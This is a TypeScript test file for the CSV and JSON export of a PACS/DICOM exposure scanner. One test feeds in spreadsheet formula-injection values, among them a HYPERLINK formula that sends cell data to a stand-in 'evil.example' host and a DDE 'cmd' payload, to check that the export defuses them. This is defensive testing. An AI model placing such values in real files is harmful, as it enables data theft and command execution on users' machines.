import { test } from 'node:test';
import assert from 'node:assert/strict';
import { SqliteStore } from '../../../src/store/sqlite/sqlite-store.ts';
import type { EndpointQuery, EndpointRecord, Repository } from '../../../src/store/repository.ts';
import { CSV_COLUMNS, exportScanCsv, exportScanJson } from '../../../src/report/export.ts';
import { ScanLookupError } from '../../../src/report/scans.ts';
import { hostOf } from '../store/helpers.ts';
import { FACILITIES, FLEET, parseCsv, seedScan, type SeedEndpoint } from './fixtures.ts';

async function fleetStore(): Promise<{ repo: SqliteStore; scanId: string }> {
  const repo = SqliteStore.open(':memory:');
  await repo.upsertFacilities(FACILITIES);
  const scan = await seedScan(repo, { endpoints: FLEET, status: 'finished', cursor: '512' });
  return { repo, scanId: scan.id };
}

async function collect(run: (write: (chunk: string) => void) => Promise<void>): Promise<string> {
  const chunks: string[] = [];
  await run((c) => void chunks.push(c));
  return chunks.join('');
}

test('JSON export: scan header with counts by exposure, endpoints = stored result + facility + findings', async () => {
  const { repo, scanId } = await fleetStore();
  const doc = JSON.parse(await collect((w) => exportScanJson(repo, scanId, w, { version: '9.9.9' })));
  assert.deepEqual(Object.keys(doc), ['scan', 'endpoints']);
  const s = doc.scan;
  assert.equal(s.id, scanId);
  assert.deepEqual(s.tool, { name: 'pacsmap', version: '9.9.9' });
  assert.equal(s.status, 'finished');
  assert.equal(s.startedAt, '2025-03-01T10:00:00.000Z');
  assert.equal(s.finishedAt, '2025-03-01T10:05:02.000Z');
  assert.equal(s.cursor, '512');
  assert.equal(s.settings.workTotal, '512');
  assert.deepEqual(s.settings.ports, [104, 4242]);
  assert.equal(s.counts.endpoints, 5);
  assert.equal(s.counts.findings, 3);
  assert.deepEqual(s.counts.exposure, {
    retrievable: 1,
    queryable: 1,
    writable: 0,
    associable: 1,
    identified: 1,
    none: 1,
  });
  assert.deepEqual(
    doc.endpoints.map((e: { host: string; port: number }) => `${e.host}:${e.port}`),
    ['127.1.0.1:4242', '127.1.0.2:104', '127.1.0.3:104', '127.1.0.4:104', '127.1.0.5:4242'],
  );
  for (const e of doc.endpoints) {
    const stored = (await repo.getEndpoint(scanId, e.host, e.port))!;
    const { facilityId, findings, ...rest } = e;
    assert.deepEqual(rest, stored.result);
    assert.equal(facilityId, stored.facilityId);
    const want = FLEET.find((f) => f.host === e.host && f.port === e.port)!.findings ?? [];
    assert.deepEqual(
      findings.map((f: { findingId: string; severity: string }) => [f.findingId, f.severity]),
      want.map((f) => [f.id, f.severity]).sort(),
    );
  }
  assert.deepEqual(doc.endpoints[0].findings[0].evidence, { observations: ['dicom.associate'] });
  // The package version is the default.
  const doc2 = JSON.parse(await collect((w) => exportScanJson(repo, scanId, w)));
  assert.match(doc2.scan.tool.version, /^\d+\.\d+\.\d+/);
  await repo.close();
});

test('JSON export of a scan without endpoints is still valid JSON', async () => {
  const repo = SqliteStore.open(':memory:');
  const scan = await seedScan(repo, { endpoints: [] });
  const doc = JSON.parse(await collect((w) => exportScanJson(repo, scan.id, w)));
  assert.deepEqual(doc.endpoints, []);
  assert.equal(doc.scan.counts.exposure.none, 0);
  await repo.close();
});

test('unknown fields survive the JSON export; CSV picks a risk score; odd documents do not crash', async () => {
  const repo = SqliteStore.open(':memory:');
  const endpoints: SeedEndpoint[] = [
    {
      host: '127.1.0.1',
      port: 104,
      exposure: 'queryable',
      patch: { risk: { score: 7.5, band: 'high' }, web: { viewer: true } },
    },
    {
      host: '127.1.0.2',
      port: 104,
      exposure: 'associable',
      patch: { riskScore: 3, findings: [{ id: 'x' }, { id: 'y' }] },
    },
    { host: '127.1.0.3', port: 104, exposure: 'mystery', result: { host: '127.1.0.3', port: 104 } },
    { host: '127.1.0.4', port: 104, exposure: 'none', result: 'not an object' },
  ];
  const scan = await seedScan(repo, { endpoints });
  const doc = JSON.parse(await collect((w) => exportScanJson(repo, scan.id, w)));
  assert.deepEqual(doc.endpoints[0].risk, { score: 7.5, band: 'high' });
  assert.deepEqual(doc.endpoints[0].web, { viewer: true });
  assert.deepEqual(doc.endpoints[0].findings, []);
  assert.deepEqual(doc.endpoints[1].findings, [{ id: 'x' }, { id: 'y' }], "the result's own findings are kept");
  assert.equal(doc.endpoints[3].host, '127.1.0.4');
  assert.equal(doc.endpoints[3].exposure, 'none');
  assert.deepEqual(doc.scan.counts.exposure.mystery, 1);

  const rows = parseCsv(await collect((w) => exportScanCsv(repo, scan.id, w)));
  const col = (name: string): number => CSV_COLUMNS.indexOf(name as (typeof CSV_COLUMNS)[number]);
  assert.equal(rows.length, 5);
  assert.equal(rows[1]![col('risk_score')], '7.5');
  assert.equal(rows[1]![col('findings')], '', 'scan not assessed and no findings in the result: unknown');
  assert.equal(rows[2]![col('risk_score')], '3');
  assert.equal(rows[2]![col('findings')], '2');
  assert.deepEqual(rows[3], [scan.id, '127.1.0.3', '104', '', 'dicom', 'success', 'mystery', ...Array(16).fill('')]);
  assert.equal(rows[4]![col('exposure')], 'none');
  await repo.close();
});

test('CSV export: documented header, one row per endpoint, values parse back', async () => {
  const { repo, scanId } = await fleetStore();
  const text = await collect((w) => exportScanCsv(repo, scanId, w));
  assert.ok(text.endsWith('\r\n'));
  const rows = parseCsv(text);
  assert.deepEqual(rows[0], [...CSV_COLUMNS]);
  assert.equal(rows.length, 1 + FLEET.length);
  const byKey = new Map(
    rows.slice(1).map((r) => [`${r[1]}:${r[2]}`, Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, r[i]]))]),
  );
  assert.deepEqual(byKey.get('127.1.0.1:4242'), {
    scan_id: scanId,
    host: '127.1.0.1',
    port: '4242',
    facility_id: 'F-SOUTH',
    service: 'dicom',
    status: 'success',
    exposure: 'retrievable',
    product: 'Orthanc',
    product_version: '1.10.1',
    implementation_class_uid: '1.2.826.0.1.3680043.2.1143.107.104.103.115.2.8.4',
    implementation_version_name: 'ORTHANC',
    tls: 'false',
    echo: 'true',
    query_allowed: 'true',
    patients: '10',
    studies: '40',
    instances: '2000',
    instances_estimated: 'true',
    query_capped: 'false',
    phi_categories: 'name;birth-date',
    services: 'echo;find;move;get',
    findings: '1',
    risk_score: '',
  });
  const q = byKey.get('127.1.0.2:104')!;
  assert.equal(q.findings, '2');
  assert.equal(q.services, 'echo;find;move;store');
  assert.equal(q.phi_categories, 'patient-id;name');
  const a = byKey.get('127.1.0.3:104')!;
  assert.equal(a.query_allowed, 'false');
  assert.equal(a.patients, '');
  assert.equal(a.findings, '0', 'assessed scan: no findings here is 0');
  const none = byKey.get('127.1.0.5:4242')!;
  assert.equal(none.service, '');
  assert.equal(none.product, '');
  assert.equal(none.implementation_class_uid, '');
  await repo.close();
});

test('CSV export defuses formulas and quotes the strings a peer chooses', async () => {
  const repo = SqliteStore.open(':memory:');
  const hostile = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    '+cmd|/C calc!A0',
    '-2+3',
    '@SUM(1,2)',
    '\tTAB',
    '\rCR',
    'comma, "quote"\nnewline',
  ];
  const endpoints: SeedEndpoint[] = hostile.map((name, i) => ({
    host: `127.1.0.${i + 1}`,
    port: 104,
    exposure: 'identified',
    patch: {
      implementation: { classUid: '1.2.3', versionName: name },
      product: { name: `=${name}`, version: '@1', confidence: 'low', ambiguousWith: [] },
    },
  }));
  const scan = await seedScan(repo, { endpoints });
  const rows = parseCsv(await collect((w) => exportScanCsv(repo, scan.id, w)));
  const vn = CSV_COLUMNS.indexOf('implementation_version_name');
  const pn = CSV_COLUMNS.indexOf('product');
  const pv = CSV_COLUMNS.indexOf('product_version');
  assert.equal(rows.length, 1 + hostile.length);
  rows.slice(1).forEach((row, i) => {
    assert.equal(row.length, CSV_COLUMNS.length);
    const name = hostile[i]!;
    assert.equal(row[vn], /^[=+\-@\t\r]/.test(name) ? `'${name}` : name);
    assert.equal(row[pn], `'=${name}`);
    assert.equal(row[pv], "'@1");
    for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell), `live formula in ${JSON.stringify(cell)}`);
  });
  await repo.close();
});

/** Wraps a store to watch paging: page sizes asked, rows yielded so far. */
function watched(repo: Repository): { repo: Repository; pageSizes: (number | undefined)[]; yielded: { n: number } } {
  const pageSizes: (number | undefined)[] = [];
  const yielded = { n: 0 };
  const proxy = new Proxy(repo, {
    get(target, prop, receiver) {
      if (prop === 'endpoints') {
        return async function* (scanId: string, query?: EndpointQuery): AsyncGenerator<EndpointRecord> {
          pageSizes.push(query?.pageSize);
          for await (const e of target.endpoints(scanId, query)) {
            yielded.n++;
            yield e;
          }
        };
      }
      const v = Reflect.get(target, prop, receiver);
      return typeof v === 'function' ? v.bind(target) : v;
    },
  });
  return { repo: proxy, pageSizes, yielded };
}

test('5,000 endpoints stream out page by page: output starts before the last row is read, and is complete', async () => {
  const repo = SqliteStore.open(':memory:');
  const endpoints: SeedEndpoint[] = Array.from({ length: 5000 }, (_, i) => ({
    host: hostOf(i),
    port: 104 + (i % 3),
    exposure: i % 7 === 0 ? 'queryable' : i % 5 === 0 ? 'associable' : 'identified',
    facilityId: null,
    ...(i % 1000 === 0 ? { findings: [{ id: 'dicom-query-open', severity: 'high' }] } : {}),
  }));
  const scan = await seedScan(repo, { endpoints });
  const w = watched(repo);
  const seenAtWrite: number[] = [];
  const jsonChunks: string[] = [];
  const started = performance.now();
  await exportScanJson(
    w.repo,
    scan.id,
    async (chunk) => {
      seenAtWrite.push(w.yielded.n);
      jsonChunks.push(chunk);
      await new Promise((r) => setImmediate(r));
    },
    { pageSize: 37 },
  );
  const jsonMs = performance.now() - started;
  assert.deepEqual(w.pageSizes, [37]);
  assert.equal(w.yielded.n, 5000);
  assert.ok(jsonChunks.length > 10, `${jsonChunks.length} chunks`);
  assert.ok(seenAtWrite[1]! < 5000, `second chunk written after ${seenAtWrite[1]} rows read`);
  const doc = JSON.parse(jsonChunks.join(''));
  assert.equal(doc.endpoints.length, 5000);
  const sorted = [...endpoints].sort((a, b) => (a.host < b.host ? -1 : a.host > b.host ? 1 : a.port - b.port));
  assert.deepEqual(
    doc.endpoints.map((e: { host: string; port: number }) => `${e.host}:${e.port}`),
    sorted.map((e) => `${e.host}:${e.port}`),
  );
  assert.equal(doc.endpoints.filter((e: { findings: unknown[] }) => e.findings.length === 1).length, 5);
  assert.equal(doc.scan.counts.exposure.queryable, endpoints.filter((e) => e.exposure === 'queryable').length);

  const csvStarted = performance.now();
  const csv = parseCsv(await collect((write) => exportScanCsv(w.repo, scan.id, write, { pageSize: 37 })));
  const csvMs = performance.now() - csvStarted;
  assert.equal(csv.length, 5001);
  assert.deepEqual(
    csv.slice(1).map((r) => `${r[1]}:${r[2]}`),
    sorted.map((e) => `${e.host}:${e.port}`),
  );
  assert.equal(csv.slice(1).filter((r) => r[CSV_COLUMNS.indexOf('findings')] === '1').length, 5);
  console.log(`# 5,000 endpoints: JSON ${jsonMs.toFixed(0)} ms, CSV ${csvMs.toFixed(0)} ms (page size 37)`);
  await repo.close();
});

test('exporting an unknown scan id fails with a lookup error', async () => {
  const repo = SqliteStore.open(':memory:');
  await assert.rejects(
    exportScanJson(repo, 'nope', () => {}),
    ScanLookupError,
  );
  await assert.rejects(
    exportScanCsv(repo, 'nope', () => {}),
    ScanLookupError,
  );
  await repo.close();
});
